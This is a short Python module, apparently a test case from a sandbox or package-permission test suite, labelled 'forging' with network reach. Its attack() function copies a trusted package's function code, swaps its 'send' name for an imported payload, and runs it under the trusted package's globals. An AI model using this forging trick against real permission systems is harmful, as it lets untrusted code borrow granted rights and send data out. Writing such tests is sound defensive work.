"""code.replace: a granted package's code with other constants."""
CATEGORY = "forging"
REACH = "net"

from types import FunctionType

from . import payload


def attack():
    import good
    code = good.work.__code__
    code = code.replace(co_names=tuple(
        "steal" if name == "send" else name for name in code.co_names))
    names = vars(good) | {"steal": payload.act}
    FunctionType(code, names)()
